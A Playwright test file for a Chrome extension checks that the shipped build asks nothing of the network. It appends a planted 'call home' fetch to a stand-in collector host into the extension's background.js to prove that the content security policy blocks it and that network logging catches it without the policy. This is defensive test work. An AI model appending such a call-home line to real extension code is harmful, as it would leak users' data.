import { appendFile, cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type BrowserContext, expect, test } from '@playwright/test';
import { sections } from '@/components/app/sections';
import { ensureChromium } from '../../scripts/install-chromium.mjs';
import { CHROME_BUILD } from '../../scripts/project.mjs';
import { findByRole, pressButton } from './closed-shadow.mjs';
import { installExtension, launchBrowser } from './launch-extension.mjs';
import { watchForLeaks } from './leaks';
import { playGithub } from './sample-sites.mjs';

// Every other test runs where no host resolves and fails by what the same recorder sees: here it is shown to see. The
// browser's own log of the network stands beside it, which nothing of an extension’s gets past; what the browser asks for itself, and a played page, are no extension’s.
const THIEF = 'https://collector.example/take';
const VIEWS = ['log', 'inbox', 'check-in'];

test('every surface is used and nothing is asked of the network; a planted fetch is blocked, and caught without the policy', async () => {
  test.setTimeout(90_000);
  const folder = await mkdtemp(join(tmpdir(), 'winnow-network-'));
  const netLog = join(folder, 'network.json');
  const file = await ensureChromium();
  if (!file) throw new Error('no Chromium to test with');
  const context = await launchBrowser({ file, profile: join(folder, 'profile'), netLog });
  const leaks = watchForLeaks({ context, played: new Set(['github.com']) });
  try {
    const surfaces = await openAll(context, await build(folder, 'honest'));
    expect(leaks.seen, 'asked for by the build as it ships').toEqual([]);
    const guarded = await steal(context, await build(folder, 'guarded', { plant: true }));
    expect(guarded).toEqual({ worker: 'failed', page: 'failed', brokenPolicy: 'connect-src' });
    leaks.seen.length = 0;
    const bare = await steal(context, await build(folder, 'bare', { plant: true, hasPolicy: false }));
    expect(bare).toEqual({ worker: 'failed', page: 'failed', brokenPolicy: null });
    await expect
      .poll(() => [...leaks.seen].sort())
      .toEqual(['page', 'worker'].map((who) => `GET ${THIEF}?bare-${who}`));
    console.log(`${surfaces} surfaces asked for nothing; 2 planted fetches blocked, 2 without a policy caught`);
  } finally {
    leaks.stop();
    await context.close();
  }
  const asked = await readNetLog(netLog);
  await rm(folder, { recursive: true, force: true, maxRetries: 3 });
  console.log(`the browser’s own log of the network: an extension asked for ${asked.join(' and ') || 'nothing'}`);
  expect(asked).toEqual(['page', 'worker'].map((who) => `${THIEF}?bare-${who}`));
});

interface Planted {
  /** A call home, in the worker. */
  plant?: boolean;
  hasPolicy?: boolean;
}

/** A copy of the build, with an id of its own. */
async function build(folder: string, name: string, { plant = false, hasPolicy = true }: Planted = {}): Promise<string> {
  const copy = join(folder, name);
  await cp(CHROME_BUILD, copy, { recursive: true });
  if (plant) {
    const call = `globalThis.stolen = fetch('${THIEF}?${name}-worker').then(() => 'answered', () => 'failed');`;
    await appendFile(join(copy, 'background.js'), `\n;${call}\n`);
  }
  if (!hasPolicy) {
    const manifest = join(copy, 'manifest.json');
    const { content_security_policy: _, ...rest } = JSON.parse(await readFile(manifest, 'utf8'));
    await writeFile(manifest, JSON.stringify(rest));
  }
  return copy;
}

/** Opens every section of the app and every view of the popup, and saves a pull request. How many there were. */
async function openAll(context: BrowserContext, folder: string): Promise<number> {
  const { extensionId, uninstall } = await installExtension(context, folder);
  const page = await context.newPage();
  for (const { path, title } of sections) {
    await page.goto(`chrome-extension://${extensionId}/options.html#${path}`);
    await expect(page).toHaveTitle(new RegExp(title));
  }
  for (const view of VIEWS) {
    await page.goto(`chrome-extension://${extensionId}/popup.html#/${view}`);
    await page.getByRole('main').waitFor();
  }
  const github = await playGithub(context);
  await page.goto(github.addPullRequest({ generation: 'react', number: 7 }));
  await pressButton(page, 'Save as win');
  await findByRole(page, 'button', 'Saved');
  await page.close();
  await uninstall();
  return sections.length + VIEWS.length + 1;
}

/** What became of a call home by the worker, which is planted, and by a page of the app. */
async function steal(context: BrowserContext, folder: string) {
  const { extensionId, worker, uninstall } = await installExtension(context, folder);
  const name = folder.split('/').at(-1);
  const fromWorker = await worker.evaluate(() => (globalThis as { stolen?: Promise<string> }).stolen);
  const page = await context.newPage();
  await page.goto(`chrome-extension://${extensionId}/options.html#/checklist`);
  const fromPage = await page.evaluate(async (address) => {
    let brokenPolicy: string | null = null;
    document.addEventListener('securitypolicyviolation', (event) => {
      brokenPolicy = event.effectiveDirective;
    });
    const ended = await fetch(address).then(
      () => 'answered',
      () => 'failed',
    );
    // The report comes after the refusal.
    await new Promise((resolve) => setTimeout(resolve, 50));
    return { page: ended, brokenPolicy };
  }, `${THIEF}?${name}-page`);
  await page.close();
  await uninstall();
  return { worker: fromWorker, ...fromPage };
}

/** Every address that the browser's network was asked for by an extension, once each; a line of the log is an event. */
async function readNetLog(file: string): Promise<string[]> {
  const lines = (await readFile(file, 'utf8'))
    .split('\n')
    .filter((line) => /"initiator":"chrome-extension:/.test(line));
  const addresses = lines.flatMap((line) => /"url":"(https?:[^"]+)"/.exec(line)?.[1] ?? []);
  return [...new Set(addresses)].sort();
}
